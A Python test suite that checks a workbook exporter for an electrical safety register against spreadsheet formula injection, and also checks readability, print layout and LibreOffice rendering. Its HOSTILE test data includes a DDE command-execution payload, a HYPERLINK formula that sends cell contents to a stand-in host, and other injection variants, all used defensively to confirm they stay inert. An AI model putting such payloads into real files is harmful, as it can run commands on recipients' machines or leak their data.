"""The owner workbook against what others say a safe and readable spreadsheet is, and opened in another program.

Text that a spreadsheet program may take for a formula: OWASP Application Security Verification Standard 5, item 1.2.10,
and CWE-1236 (read in public copies). Parts and limits of the file: ECMA-376 part 1 (restated second-hand). What makes
a sheet readable: the spreadsheet checklist of the UK Government Analysis Function (restated second-hand). The other
program is LibreOffice Calc.
"""

import csv
import re
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any, Final
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from python_calamine import CalamineWorkbook

from register.exchange.workbook import write_owner_workbook
from register.exchange.workbook.cells import LONGEST
from tests.exchange.workbook.made_up import FAILING_SWITCH, made_up_report

HOSTILE: Final = {
    "sum": "=1+1",
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(1)",
    "program": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "blank first": "  =1+1",
    "full-width": "＝1+1",  # noqa: RUF001 - the full-width sign is the case
    "full-width plus": "＋1",  # noqa: RUF001
    "apostrophe": "'=1+1",
    "error word": "#N/A",
    "escape": "_x003D_1+1",
    "markup": '<img src="file:///etc/hostname"> & <b>not bold',
    "long": "=" + "x" * 33_000,
    "control": "NUL\x00 BEL\x07 end",
    "emoji": "👩\u200d🔧 10 A",
    "right to left": "قاطع حماية 30 mA",
    "number": "00042",
    "exponent": "1E5",
    "date": "3/4/2026",
}


KEYS: Final = {"In figures": ["What is counted", "Group"]}
"""The first two headings of a sheet that is not about single items."""


def shown(text: str) -> str:
    """Return what a reader must see of a text: all of it, but for control characters and what no cell can hold."""
    visible = re.sub("[\x00\x07]", "", text.replace("\r", "\n"))
    return visible if len(visible) <= LONGEST else visible[: LONGEST - 1] + "…"


@pytest.fixture(scope="module")
def hostile_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workbook in which every text that people type is one that tries to be something else."""
    report = made_up_report(len(HOSTILE))
    items = tuple(
        replace(
            row,
            item=replace(row.item, tag=f"T-{number}", description=text, area=text),
            environment=text,
            serial=text,
            remarks=text,
            earlier_tags=(text,),
        )
        for number, (row, text) in enumerate(zip(report.items[2:], HOSTILE.values(), strict=True))
    )
    record = replace(report.records[0], tester="=1+1", instrument="@SUM(1)", remarks="+1", why="-1")
    path = tmp_path_factory.mktemp("hostile") / "owner.xlsx"
    site = replace(report.site, name="Cut & Shut &P =1+1", address="=1+1")
    write_owner_workbook(
        replace(report, firm="=cmd|' /C calc'!A0", owner="@SUM(1)", site=site, items=items, records=(record,)), path
    )
    return path


@pytest.fixture(scope="module")
def honest_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("honest") / "owner.xlsx"
    write_owner_workbook(made_up_report(), path)
    return path


@pytest.fixture(scope="module")
def calc(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """The command that starts LibreOffice without a window, with a profile of its own."""
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("not run: needs LibreOffice")
    profile = tmp_path_factory.mktemp("profile").as_uri()
    return [program, f"-env:UserInstallation={profile}", "--headless", "--norestore"]


def converted(calc: list[str], book: Path, to: str, into: Path) -> list[Path]:
    """Return the files that LibreOffice makes of a workbook."""
    done = subprocess.run(
        [*calc, "--convert-to", to, "--outdir", into, book], capture_output=True, text=True, timeout=180, check=True
    )
    assert "rror" not in done.stderr + done.stdout, done.stderr + done.stdout
    return sorted(into.iterdir())


def as_csv(calc: list[str], book: Path, into: Path) -> dict[str, list[list[str]]]:
    """Return every sheet as LibreOffice shows it: comma, quotes, UTF-8, cells as shown, all sheets."""
    shape = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1"
    sheets = {}
    for path in converted(calc, book, shape, into):
        with path.open(newline="", encoding="utf-8") as file:
            sheets[path.stem.split("-", 1)[1]] = list(csv.reader(file))
    return sheets


def parts(book: Path, pattern: str) -> Iterator[tuple[str, str]]:
    with ZipFile(book) as archive:
        for name in archive.namelist():
            if re.fullmatch(pattern, name):
                yield name, archive.read(name).decode()


def sheets_of(book: Path) -> list[Worksheet]:
    return [sheet for sheet in load_workbook(book).worksheets[1:] if sheet.sheet_state == "visible"]


def column(rows: list[list[Any]], heading: str) -> list[Any]:
    at = rows[0].index(heading)
    return [row[at] for row in rows[1:]]


@pytest.mark.parametrize("heading", ["Item", "Area", "Environment class", "Serial number", "Earlier tags", "Remarks"])
def test_hostile_text_is_read_back_literally_by_another_library(hostile_book: Path, heading: str) -> None:
    rows = CalamineWorkbook.from_path(hostile_book).get_sheet_by_name("Register").to_python()

    assert column(rows, heading) == [shown(text) for text in HOSTILE.values()]


def test_hostile_text_is_shown_literally_by_another_program(
    hostile_book: Path, calc: list[str], tmp_path: Path
) -> None:
    sheets = as_csv(calc, hostile_book, tmp_path)

    for heading in ("Item", "Area", "Environment class", "Serial number", "Earlier tags", "Remarks"):
        told = dict(zip(HOSTILE, column(sheets["Register"], heading), strict=True))
        assert told == {name: shown(text) for name, text in HOSTILE.items()}
    assert [row[:2] for row in sheets["Cover"] if row[0] in {"Owner", "Kept by"}] == [
        ["Owner", "@SUM(1)"],
        ["Kept by", "=cmd|' /C calc'!A0, 14 Ferry Lane, Corran Bay, 08 5550 0199"],
    ]
    record = dict(zip(*sheets["Test results"], strict=True))
    assert (record["Tester"], record["What decided it"], record["Remarks"]) == ("=1+1", "-1", "+1")


def test_no_cell_holds_a_formula_and_nothing_leads_out_of_the_file(hostile_book: Path) -> None:
    for name, text in parts(hostile_book, r"xl/worksheets/sheet\d+\.xml"):
        assert "<f>" not in text, name
        assert not re.search(r"<c [^>]*t=\"(e|str|b)\"", text), name
    assert not list(parts(hostile_book, r"xl/(externalLinks|vbaProject|media).*"))
    for name, text in parts(hostile_book, r".*\.rels"):
        assert "External" not in text, name


def test_text_that_a_program_may_take_for_a_formula_is_marked_as_typed_text(hostile_book: Path) -> None:
    sheet = load_workbook(hostile_book)["Register"]
    at = next(cell.column for cell in sheet[1] if cell.value == "Item")

    marked = {name for row, name in enumerate(HOSTILE, start=2) if sheet.cell(row, at).quotePrefix}

    inert = {"error word", "escape", "markup", "control", "emoji", "right to left", "number", "exponent", "date"}
    assert marked == set(HOSTILE) - inert


def test_tags_and_serial_numbers_are_text_and_stay_so_when_typed_over(honest_book: Path) -> None:
    book = load_workbook(honest_book)
    for sheet, heading in (("Register", "Tag"), ("Register", "Serial number"), ("Withdrawn", "Out-of-service tag")):
        at = next(cell.column for cell in book[sheet][1] if cell.value == heading)
        cells = [book[sheet].cell(row, at) for row in range(2, book[sheet].max_row + 1)]
        assert {cell.number_format for cell in cells} == {"@"}
        assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}


def test_a_site_with_codes_in_its_name_prints_its_name(hostile_book: Path) -> None:
    """ECMA-376 part 1, oddHeader: an ampersand starts a code unless doubled; 255 characters at most."""
    texts = [text for _, text in parts(hostile_book, r"xl/worksheets/sheet\d+\.xml")]

    assert len(texts) == 16
    for text in texts:
        head = re.search(r"<oddHeader>(.*?)</oddHeader>", text)
        assert head is not None
        assert "Cut &amp;&amp; Shut &amp;&amp;P =1+1" in head[1]
        assert len(head[1]) <= 255
        assert "Page &amp;P of &amp;N" in text


def test_every_sheet_is_one_table_with_one_heading_row_and_nothing_merged_or_blank_in_it(honest_book: Path) -> None:
    for sheet in sheets_of(honest_book):
        (table,) = sheet.tables.values()
        assert table.ref == sheet.dimensions
        assert table.autoFilter.ref == table.ref
        assert sheet.auto_filter.ref is None, "a second filter on the same cells makes programs offer a repair"
        assert not sheet.merged_cells.ranges
        assert all(any(cell.value is not None for cell in row) for row in sheet.iter_rows())
        assert all(any(cell.value is not None for cell in column) for column in sheet.iter_cols())


def test_headings_are_texts_that_differ_in_more_than_case(honest_book: Path) -> None:
    names = []
    for sheet in sheets_of(honest_book):
        heads = [cell.value for cell in sheet[1]]
        assert all(isinstance(head, str) and 0 < len(head) <= 255 for head in heads)
        assert len({str(head).casefold() for head in heads}) == len(heads)
        names += [column.name for column in next(iter(sheet.tables.values())).tableColumns]
        assert names[-len(heads) :] == heads
    tables = [name for sheet in sheets_of(honest_book) for name in sheet.tables]
    assert len({name.casefold() for name in tables}) == len(tables)


def test_headings_and_the_key_stay_in_view_and_print_on_every_page(honest_book: Path) -> None:
    for sheet in sheets_of(honest_book):
        assert sheet.print_title_rows == "$1:$1"
        if sheet.title in {"Tick sheet", "Rules used", "Notes"}:
            assert sheet.freeze_panes == "B2"
        else:
            assert sheet.freeze_panes == "C2"
            assert [sheet["A1"].value, sheet["B1"].value] == KEYS.get(sheet.title, ["Standing", "Tag"])


def test_sheets_print_on_a4_one_page_wide(honest_book: Path) -> None:
    for sheet in load_workbook(honest_book).worksheets:
        assert sheet.page_setup.paperSize == int(Worksheet.PAPERSIZE_A4)
        assert sheet.page_setup.fitToWidth == 1
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert {sheet.page_setup.orientation for sheet in sheets_of(honest_book)} == {"landscape", "portrait"}


def test_dates_are_dates_with_room_to_be_read(honest_book: Path) -> None:
    found = 0
    for sheet in sheets_of(honest_book):
        for cell in (cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.is_date):
            assert cell.number_format == "yyyy-mm-dd"
            assert sheet.column_dimensions[cell.column_letter].width >= len("2026-09-30") + 1
            found += 1
    assert found > 300


def test_an_overdue_row_is_known_in_grey_print_by_word_weight_frame_and_pattern(honest_book: Path) -> None:
    sheet = load_workbook(honest_book)["Overdue"]
    rules = [(area, rule) for area in sheet.conditional_formatting for rule in area.rules]

    marking = [(str(area.sqref), rule.dxf) for area, rule in rules if rule.formula == ['$A2="Overdue"']]
    word = [rule.dxf for _, rule in rules if rule.formula == ['A2="Overdue"']]
    assert {letter for cells, _ in marking for letter in re.findall("[A-Z](?=2:)", cells)} == set("BCDEFGHIJKLM")
    for look in (*word, *(look for _, look in marking)):
        assert look.border.top.style == look.border.bottom.style == "thin"
        assert look.fill.patternType == "gray125"
    assert any(look.font and look.font.b for _, look in marking)
    assert word[0].font.b
    assert "Overdue" in [cell.value for cell in sheet["A"]]


def test_every_word_of_standing_has_its_own_tone_in_no_cell_more_than_one(honest_book: Path) -> None:
    sheet = load_workbook(honest_book)["Register"]

    words = {cell.value for cell in sheet["A"][1:]}
    toned = [
        re.fullmatch(r'A2="(.*)"', rule.formula[0])
        for area in sheet.conditional_formatting
        for rule in area.rules
        if str(area.sqref).startswith("A2:A")
    ]
    assert words <= {match[1] for match in toned if match}


def test_the_file_says_what_it_is(honest_book: Path) -> None:
    about = load_workbook(honest_book).properties

    assert about.title == "Register of safety switches and appliances, Brackwater Boatyard"
    assert about.subject == "As at 2026-11-24"
    assert about.creator == "Tidewater Electrical Testing"


def test_another_program_reads_the_same_rows_and_shows_dates_and_figures_whole(
    honest_book: Path, calc: list[str], tmp_path: Path
) -> None:
    book = load_workbook(honest_book)
    sheets = as_csv(calc, honest_book, tmp_path)

    assert {name: len(rows) for name, rows in sheets.items() if name != "Cover"} == {
        sheet.title: sheet.max_row for sheet in book.worksheets[1:]
    }
    assert not [cell for rows in sheets.values() for row in rows for cell in row if "###" in cell]
    failures = [dict(zip(sheets["Failures"][0], row, strict=True)) for row in sheets["Failures"][1:]]
    first = failures[0]
    assert (first["Standing"], first["Tag"], first["Failed on"]) == ("Withdrawn", FAILING_SWITCH.tag, "2026-11-24")
    assert (first["Half-cycle"], first["Multiple"], first["Reading"]) == ("180°", "1×", "312.4 ms")
    days = column(sheets["Overdue"], "Days left or over")
    assert days[0] == "79 over"
    assert column(sheets["Next 13 weeks"], "Days left or over")[-1] == "13 left"


def test_another_program_prints_it_without_a_sheet_going_over_one_page_in_width(
    honest_book: Path, calc: list[str], tmp_path: Path
) -> None:
    (paper,) = converted(calc, honest_book, "pdf", tmp_path)

    pages = len(re.findall(rb"/Type\s*/Page\b(?!s)", paper.read_bytes()))
    assert 12 <= pages <= 40
